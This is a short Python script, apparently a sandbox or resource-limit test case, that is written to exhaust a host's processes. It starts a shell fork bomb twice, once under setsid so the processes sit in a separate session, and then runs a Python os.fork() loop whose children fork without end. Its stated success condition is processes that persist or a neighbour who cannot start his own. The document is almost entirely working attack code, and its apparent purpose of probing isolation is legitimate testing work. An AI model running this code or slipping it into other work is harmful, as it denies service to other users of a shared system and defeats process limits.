"""Forks forever: in Python, and in a shell whose processes are in separate sessions."""

SOURCE = "the fork bomb, as old as Unix"
SUCCESS = "processes that stay, or a neighbour who cannot start his own"

# %%
import os
import subprocess
import time

bomb = "b(){ b|b& }; b; while :; do b; done"
for command in (["setsid", "sh", "-c", bomb, "@TOKEN@-@NAME@"], ["sh", "-c", bomb, "@TOKEN@-@NAME@"]):
    try:
        subprocess.Popen(command, stderr=subprocess.DEVNULL)
    except OSError as error:
        print(error)
children, began = 0, time.monotonic()
while time.monotonic() - began < 2:
    try:
        if os.fork() == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(0.01)
        children += 1
    except OSError as error:
        last = error
        time.sleep(0.01)
print(children, "children of one process, then", last)
print("attempted")
